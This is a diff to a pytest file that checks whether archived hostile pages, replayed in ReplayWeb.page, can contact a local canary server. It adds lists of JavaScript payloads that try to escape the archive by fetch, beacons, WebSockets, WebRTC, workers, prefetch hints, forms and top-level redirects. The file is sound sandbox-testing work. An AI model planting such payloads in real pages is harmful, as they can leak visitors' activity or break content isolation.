@@ -7,6 +7,7 @@ import io
 import socketserver
 import threading
 from collections.abc import Callable, Iterator
+from contextlib import suppress
 from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
@@ -15,8 +16,19 @@ import pytest
 
 from crawler.archive import Recorder
 from crawler.model import Exchange, Outcome, Purpose, Role
+from crawler.web.viewer import installed
 
-URL = "https://attack.example/page"
+BASE = "https://attack.example/"
+URL = f"{BASE}page"
+SILENT = b"(a connection)"
+SEEN = """(function text(root) {
+  let all = root.body ? root.body.innerText : "";
+  for (const element of root.querySelectorAll("*")) {
+    if (element.shadowRoot) all += "\\n" + text(element.shadowRoot);
+    if (element.tagName === "IFRAME") try { all += "\\n" + text(element.contentDocument) } catch (error) {}
+  }
+  return all;
+})(document)"""
 SUBPAGES = ("frame", "sheet.css", "picture.svg", "worker.js", "redirect", "refresh")
 
 
@@ -29,11 +41,11 @@ class Canary:
 
         class Handler(socketserver.BaseRequestHandler):
             def handle(self) -> None:
+                place = len(canary.heard)
+                canary.heard.append(SILENT)
                 self.request.settimeout(2)
-                try:
-                    canary.heard.append(self.request.recv(4096))
-                except OSError:
-                    canary.heard.append(b"(a connection)")
+                with suppress(OSError):
+                    canary.heard[place] = self.request.recv(4096) or SILENT
 
         self._server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Handler)
         self.host = f"127.0.0.1:{self._server.server_address[1]}"
@@ -118,6 +130,60 @@ def ways_out(host: str) -> dict[str, str]:
     }
 
 
+def ways_of_scripts(host: str) -> dict[str, str]:
+    """What is open to scripts alone."""
+    at = f"http://{host}"
+    apart = f"fetch('{at}/W');new WebSocket('ws://{host}/W');importScripts('{at}/W')"
+    frame = "let f=document.body.appendChild(document.createElement('iframe')).contentWindow;"
+    server = f"{{urls:'turn:{host}?transport=tcp',username:'a',credential:'b'}}"
+    peer = f"RTCPeerConnection({{iceServers:[{server}]}});p.createDataChannel('x');p.setLocalDescription()"
+    ways = {
+        "fetch": f"fetch('{at}/W',{{mode:'no-cors'}})",
+        "request": f"let r=new XMLHttpRequest();r.open('GET','{at}/W');r.send()",
+        "beacon": f"navigator.sendBeacon('{at}/W','x')",
+        "socket": f"new WebSocket('ws://{host}/W')",
+        "events": f"new EventSource('{at}/W')",
+        "transport": f"new WebTransport('https://{host}/W')",
+        "peer": f"let p=new {peer}",
+        "those of a new frame": f"{frame}f.fetch('{at}/W');new f.WebSocket('ws://{host}/W');let p=new f.{peer}",
+        "worker": f'new Worker(URL.createObjectURL(new Blob(["{apart}"])))',
+        "shared worker": f'new SharedWorker(URL.createObjectURL(new Blob(["{apart}"])))',
+        "form sent to a frame": "let i=document.createElement('iframe');i.name='n';document.body.append(i);"
+        f"let f=document.createElement('form');f.action='{at}/W';f.target='n';document.body.append(f);f.submit()",
+        "hints made": "for(const r of ['preconnect','dns-prefetch','prefetch','preload','prerender'])"
+        f"{{let l=document.createElement('link');l.rel=r;l.href='{at}/W';l.as='image';document.head.append(l)}}",
+        "hints written": f"document.write(\"<link rel=preconnect href='{at}/W'><img src='{at}/W'>\")",
+        "speculation": "let s=document.createElement('script');s.type='speculationrules';s.textContent="
+        f"JSON.stringify({{prefetch:[{{urls:['{at}/W']}}],prerender:[{{urls:['{at}/W']}}]}});document.head.append(s)",
+        "shadow": "let h=document.body.appendChild(document.createElement('div'));"
+        f"h.attachShadow({{mode:'open'}}).innerHTML=\"<img src='{at}/W'>\"",
+        "font made": f"new FontFace('x','url({at}/W)').load()",
+        "import": f"import('{at}/W')",
+    }
+    return {name: f"<script>{{{script}}}</script>" for name, script in ways.items()}
+
+
+def ways_of_leaving(host: str) -> dict[str, str]:
+    """What takes the page's place."""
+    at = f"http://{host}"
+    ways = {
+        "location": f"location='{at}/W'",
+        "top": f"top.location='{at}/W'",
+        "window": f"open('{at}/W')",
+        "frame around": f"parent.location='{at}/W'",
+        "form sent": f"let f=document.createElement('form');f.action='{at}/W';document.body.append(f);f.submit()",
+        "link clicked": f"let a=document.createElement('a');a.href='{at}/W';document.body.append(a);a.click()",
+        "worker unregistered": "navigator.serviceWorker.getRegistrations().then(async all=>{for(const r of all)"
+        f"await r.unregister();fetch('{at}/W');location='{at}/W'}})",
+    }
+    return {name: f"<script>{script}</script>" for name, script in ways.items()}
+
+
+def told(name: str, way: str) -> str:
+    """A way out that tells the canary its name."""
+    return f"<section title='{name}'>{way.replace('/W', '/' + name.replace(' ', '-'))}</section>\n"
+
+
 def headers(host: str) -> str:
     at = f"http://{host}"
     return "".join(
@@ -145,7 +211,7 @@ def responses(host: str) -> dict[str, bytes]:
 
     page = "<!doctype html><title>attack</title><h1>attack page</h1>"
     for name, way in ways_out(host).items():
-        page += f"<section title='{name}'>{way.replace('/W', '/' + name.replace(' ', '-'))}</section>\n"
+        page += told(name, way)
     # Frames of nobody's tags that end the page: what comes after "plaintext" is text.
     page += "<p id=end>the end</p><plaintext><img src='" + at + "/plaintext'>"
     attack_svg = (
@@ -247,3 +313,40 @@ def test_nor_does_any_of_its_files_opened_by_itself(attack: Any, canary: Canary,
 def test_its_redirect_leads_into_the_archive(attack: Any, canary: Canary) -> None:
     _, fields, _ = attack.get(f"{attack.origins.replay}/web/20261122180000mp_/https://attack.example/redirect")
     assert fields["location"] == f"{attack.origins.replay}/web/20261122180000mp_/http://{canary.host}/redirect"
+
+
+@pytest.fixture(scope="module")
+def scripted(tmp_path_factory: pytest.TempPathFactory, canary: Canary, serving: Callable[..., Any]) -> Any:
+    """A desk with ReplayWeb.page, where scripts run, over a hostile page and others that take its place."""
+    folder = installed() or installed(Path(__file__).parents[2] / ".venv-interop" / "replaywebpage")
+    if folder is None:
+        pytest.skip("no ReplayWeb.page here: `make interop` or `wirecopy viewer install` fetches it")
+    root = tmp_path_factory.mktemp("scripted")
+    at = f"http://{canary.host}"
+    tags, scripts = ways_out(canary.host), ways_of_scripts(canary.host)
+    leaving = {name: tags.pop(name) for name in ("meta refresh", "other pages")} | ways_of_leaving(canary.host)
+    pages = {name: told(name, way) for name, way in leaving.items()}
+    for name, ways in (("many tags", tags), ("many scripts", scripts)):
+        pages[name] = "".join(told(key, way.replace(f";location='{at}/W'", "")) for key, way in ways.items())
+        pages[name] += "<p id=end>the end"
+    answers = responses(canary.host)
+    head = answers[URL].partition(b"Content-Length")[0] + headers(canary.host).encode() + b"\r\n"
+    for name, page in pages.items():
+        ran = "<script>document.querySelector('h1').append(' ran')</script>"
+        answers[BASE + name.replace(" ", "-")] = head + f"<!doctype html><h1>{name}</h1>{ran}{page}".encode()
+    record(root / "hostile", answers)
+    return serving(root, viewer=folder), tuple(pages)
+
+
+def test_nor_does_any_in_replaywebpage_where_scripts_run(scripted: Any, canary: Canary, tab: Any) -> None:
+    desk, names = scripted
+    for name in names:
+        tab.open(f"{desk.origins.desk}/scripts/20261122180000/{BASE}{name.replace(' ', '-')}", settle=0.1)
+        shown = (f"{name} ran", "Go Back to the previous page")  # the second is what it says of pages that it has not
+        tab.wait_until(lambda shown=shown: any(words in tab.value(SEEN, frame=True) for words in shown))
+        tab.settle(1.0 if name.startswith("many") else 0.2)
+        assert tab.value("location.href").startswith(desk.origins.desk)
+        assert not name.startswith("many") or "the end" in tab.value(SEEN, frame=True)
+    tab.picture("attack-scripts")
+    # Chromium connects ahead for a frame that scripts send away, before it sees that it may not go, and sends nothing.
+    assert [words for words in canary.heard if words != SILENT] == []
